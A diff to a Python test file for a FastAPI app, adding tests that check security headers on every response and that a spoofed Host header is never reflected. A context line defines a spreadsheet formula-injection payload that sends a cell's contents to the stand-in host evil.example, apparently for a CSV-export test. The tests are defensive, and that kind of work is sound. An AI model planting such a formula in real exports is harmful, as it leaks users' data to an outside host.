@@ -11,17 +11,22 @@ import csv
 import io
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 from fastapi import FastAPI
 from typer.testing import CliRunner
 
 from headway.cli import app as cli_app
+from headway.settings import Settings
 from headway.store import Store
 from headway.store.api_keys import create_key
+from headway.web.app import create_app
 from headway.web.csrf import CSRF_COOKIE
 from tests.engine.activity_log import load
+from tests.web.api.conftest import build_world
 from tests.web.auth_support import Browser, auth_app, log_in
+from tests.web.conftest import Client
 
 FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
 JOURNEY = """\
@@ -31,6 +36,8 @@ stages:
   - name: Visit
     when: {type: page_visit}
 """
+SIGNUP_YAML = JOURNEY.replace("Signup", "Signup two")
+YAML = {"Content-Type": "application/yaml"}
 
 
 # -- CSV from the CLI ---------------------------------------------------------------------------
@@ -87,3 +94,83 @@ def test_a_csrf_token_from_before_login_is_refused_after_it(app: FastAPI, store:
     after = browser.get("/test/token").json()["token"]
     assert browser.post("/test/form", data={"csrf_token": after}).status_code == 200
     assert json.loads(browser.post("/test/form", data={"csrf_token": after}).text)["changed"]
+
+
+# -- security headers and the Host header -------------------------------------------------------
+@pytest.fixture
+def world_app(store: Store) -> FastAPI:
+    build_world(store)
+    return create_app(store, Settings(tracking={"enabled": False}))
+
+
+def _requests(admin: str) -> list[tuple[str, str, dict[str, Any]]]:
+    auth = {"Authorization": f"Bearer {admin}"}
+    trial = "/api/v1/journeys/Trial"
+    return [
+        ("GET", "/", {}),  # a page without a session: the login redirect
+        ("GET", "/login", {}),
+        ("GET", "/journeys/Trial", {"headers": auth}),
+        ("GET", f"{trial}/funnel?as_of=2025-01-05", {"headers": auth}),
+        ("GET", f"{trial}/contacts?as_of=2025-01-05&limit=1", {"headers": auth}),
+        ("GET", f"{trial}/contacts?as_of=2025-01-05&format=csv", {"headers": auth}),
+        ("GET", "/api/v1/journeys/", {"headers": auth}),  # the trailing-slash redirect
+        ("POST", "/api/v1/journeys", {"headers": auth | YAML, "content": SIGNUP_YAML}),
+        ("GET", "/api/v1/journeys", {}),  # 401
+        ("GET", "/nowhere", {"headers": auth}),  # 404
+        ("POST", "/api/v1/activities", {"headers": auth | {"Content-Length": "99999999"}}),
+        ("GET", "/t/c/forged-token", {}),
+        ("GET", "/api/docs", {}),
+        ("GET", "/api/openapi.json", {}),
+        ("GET", "/static/headway.js", {}),
+        ("GET", "/health", {}),
+    ]
+
+
+def test_every_response_carries_the_security_headers(world_app: FastAPI, store: Store) -> None:
+    _, admin = create_key(store, ["admin"])
+    client = Client(world_app)
+    for method, url, kw in _requests(admin):
+        r = client.request(method, url, **kw)
+        where = f"{method} {url} ({r.status_code})"
+        policy = _policy(r.headers.get("content-security-policy", ""))
+        assert policy["frame-ancestors"] == ["'none'"], where
+        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"], where
+        script = policy["script-src"]
+        assert script[0] == "'self'" and "'unsafe-inline'" not in script, where
+        assert "'unsafe-eval'" not in script, where
+        assert all(s.startswith("'sha256-") for s in script[1:]), where  # /api/docs only
+        assert r.headers["x-frame-options"] == "DENY", where
+        assert r.headers["x-content-type-options"] == "nosniff", where
+        expected = "no-referrer" if url.startswith("/t/") else "strict-origin-when-cross-origin"
+        assert r.headers["referrer-policy"] == expected, where
+
+
+def test_an_unexpected_error_carries_the_security_headers(store: Store) -> None:
+    app = create_app(store, Settings(tracking={"enabled": False}))
+
+    @app.get("/boom")
+    def boom() -> None:
+        raise RuntimeError("boom")
+
+    r = Client(app).get("/boom")
+    assert r.status_code == 500
+    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
+    assert r.headers["x-content-type-options"] == "nosniff"
+
+
+def test_the_host_header_is_never_reflected(world_app: FastAPI, store: Store) -> None:
+    _, admin = create_key(store, ["admin"])
+    client = Client(world_app)
+    for method, url, kw in _requests(admin):
+        headers = dict(kw.pop("headers", {})) | {"Host": "evil.example:8443"}
+        r = client.request(method, url, headers=headers, **kw)
+        where = f"{method} {url} ({r.status_code})"
+        assert "evil.example" not in r.text, where
+        assert not [v for _, v in r.headers.multi_items() if "evil.example" in v], where
+    r = client.get("/api/v1/journeys/", headers={"Authorization": f"Bearer {admin}"})
+    assert r.status_code == 307 and r.headers["location"] == "/api/v1/journeys"
+
+
+def _policy(header: str) -> dict[str, list[str]]:
+    directives = [d.split() for d in header.split(";") if d.strip()]
+    return {d[0]: d[1:] for d in directives}
